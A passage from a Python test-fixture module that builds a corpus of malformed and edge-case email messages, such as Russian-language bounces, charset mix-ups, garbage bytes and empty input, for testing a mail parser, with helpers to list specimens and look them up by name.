                [("Content-Description", "Delivery report"), ("Content-Type", "message/delivery-status")],
                status.encode(),
            ),
            _part([("Content-Description", "Undelivered Message"), ("Content-Type", "message/rfc822")], original),
        ],
        preamble="This is a MIME-encapsulated message.\n",
    )
    subject = "Недоставленное сообщение"
    headers = _envelope(
        "20240401071501.4V7Xk@mx.hub.example",
        _ew(subject),
        sender="MAILER-DAEMON@mx.hub.example (Mail Delivery System)",
        extra=[
            ("Auto-Submitted", "auto-replied"),
            ("Content-Type", 'multipart/report; report-type=delivery-status;\n\tboundary="=_dsn"'),
        ],
    )
    return Specimen(
        name="dsn_bounce",
        raw=_message(headers, body),
        why="multipart/report DSN: 5.1.1 for nobody@romashka.example, returning <orig-bounce@hub.example>",
        subject=subject,
        sender="mailer-daemon@mx.hub.example",
        recipients=1,
        text_contains="не было доставлено",
        attachments=None,
        message_id="20240401071501.4V7Xk@mx.hub.example",
    )


def _garbage_bytes() -> Specimen:
    return Specimen(
        name="garbage_bytes",
        raw=_noise(4096, "garbage"),
        why="4 KiB of pseudo-random bytes; stdlib: no raise, a text/plain of garbage, MissingHeaderBodySeparatorDefect",
        subject=None,
        sender=None,
        recipients=None,
        text_contains=None,
        attachments=None,
        quarantine_ok=True,
    )


def _empty_message() -> Specimen:
    return Specimen(
        name="empty_message",
        raw=b"",
        why="0 bytes (an IMAP server handed over an empty literal); stdlib: no raise, an empty text/plain",
        subject=None,
        sender=None,
        recipients=None,
        text_contains=None,
        attachments=None,
        quarantine_ok=True,
    )


_BUILDERS: tuple[Callable[[], Specimen], ...] = (
    _utf8_plain,
    _cp1251_body_and_subject,
    _koi8r_plain,
    _koi8r_body_cp1251_subject,
    _iso8859_5,
    _encoded_words_folded,
    _encoded_word_split_mid_char,
    _mixed_charsets_one_header,
    _encoded_word_no_space,
    _raw_utf8_headers,
    _raw_cp1251_headers,
    _says_utf8_is_cp1251,
    _unknown_charset,
    lambda: _misspelt_charset("win-1251", "cp1251", "charset_win_1251", LOOKUP_ERROR),
    lambda: _misspelt_charset("cp-1251", "cp1251", "charset_cp_1251", LOOKUP_ERROR),
    lambda: _misspelt_charset("utf8", "utf-8", "charset_utf8", "stdlib copes: Python knows the alias"),
    _no_content_type,
    _rfc2231_filename,
    _rfc2231_continuations,
    _rfc2047_filename_outlook,
    _rfc2047_filename_unquoted,
    _filename_raw_8bit,
    _empty_attachment,
    _big_attachment,
    _tnef_winmail,
    _eml_attachment,
    _alternative_text_html,
    _html_only,
    _html_meta_charset_conflict,
    _html_scripts_handlers,
    _html_embeds_forms_styles,
    _html_tracking_pixel_data_uri,
    _related_cid_images,
    _related_unreferenced_image,
    _boundary_never_used,
    _closing_boundary_missing,
    _boundary_in_body_text,
    _base64_garbage,
    _base64_truncated,
    _qp_broken,
    _nul_bytes,
    _long_line,
    _huge_x_junk,
    _received_2000,
    _recipients_500,
    _undisclosed_recipients,
    _from_cp1251_quoted_comma,
    _from_addr_with_comment,
    _from_missing,
    _no_message_id,
    _duplicate_message_id,
    _message_id_no_brackets,
    _in_reply_to_references,
    _date_missing,
    _date_unparseable,
    _date_russian_months,
    _nested_rfc822,
    _calendar_invite,
    _dsn_bounce,
    _garbage_bytes,
    _empty_message,
)


@cache
def _built() -> tuple[Specimen, ...]:
    specimens = tuple(build() for build in _BUILDERS)
    names = [specimen.name for specimen in specimens]
    duplicates = {name for name in names if names.count(name) > 1}
    if duplicates:
        raise ValueError(f"duplicate specimen names: {sorted(duplicates)}")
    return specimens


def corpus() -> list[Specimen]:
    """Every specimen, in a stable order (built once per process, about 3.5 MB in all)."""
    return list(_built())


def by_name(name: str) -> Specimen:
    """The specimen called ``name``; KeyError names the known ones when there is none."""
    for specimen in _built():
        if specimen.name == name:
            return specimen
    raise KeyError(f"no specimen {name!r}; known: {', '.join(s.name for s in _built())}")
